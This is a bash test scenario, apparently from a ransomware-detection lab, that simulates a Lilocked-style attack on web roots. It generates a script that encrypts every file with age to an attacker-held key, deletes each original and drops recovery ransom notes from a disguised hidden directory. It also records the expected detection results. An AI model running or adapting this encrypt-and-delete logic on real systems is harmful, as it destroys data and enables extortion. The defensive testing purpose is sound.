# age with a public-key recipient over the web roots (Lilocked-style web-server attack), carol's session.
HOST=web01.corp.example
SUMMARY="Attack: age -r (attacker's public key) over both web roots from carol's session (no sudo), rm of each original, HOW_TO_RECOVER_FILES.txt per directory."
targets() { find "$RT_ROOT/var/www" -type f; }

scenario_prepare() {
    age-keygen -o "$RT_OPT.agekey" 2>/dev/null
    AGE_PUB=$(age-keygen -y "$RT_OPT.agekey")
    rt_note_text > "$RT_DROP/HOW_TO_RECOVER_FILES.txt"
    cat > "$RT_DROP/w.sh" <<SH
#!/bin/bash
find /srv/rt-lab/var/www -type f | while read -r f; do
  age -r $AGE_PUB -o "\$f.age" "\$f" && rm -f "\$f"
  cp -n /var/tmp/.font-cache/HOW_TO_RECOVER_FILES.txt "\$(dirname "\$f")/"
done
SH
    chmod 755 "$RT_DROP/w.sh"
    targets | sort > "$RT_OPT.targets"
    N_FILES=$(wc -l < "$RT_OPT.targets"); N_DIRS=$(rt_count_dirs < "$RT_OPT.targets")
}
scenario_run() {
    rt_attack as_login carol "cd /srv/rt-lab/var/www && bash /var/tmp/.font-cache/w.sh"
}
scenario_verify() {
    rt_check encrypted "$(find "$RT_ROOT/var/www" -name '*.age' | wc -l)" "$N_FILES" &&
    rt_check notes "$(find "$RT_ROOT/var/www" -name HOW_TO_RECOVER_FILES.txt | wc -l)" "$N_DIRS"
}
scenario_truth() {
    cat <<Y
expected:
  - rootExe: /usr/bin/bash
    rootCommandContains: "w.sh"
    loginUser: carol
    runAsUser: carol
    filesAffected: $N_FILES
    overwrite: new-file-then-delete
    newExtension: .age
    notes: { name: HOW_TO_RECOVER_FILES.txt, directories: $N_DIRS }
    tools: [age]
    targetRoots: [/srv/rt-lab/var/www]
Y
}
scenario_cleanup() { rm -f "$RT_OPT.agekey" "$RT_OPT.targets"; }
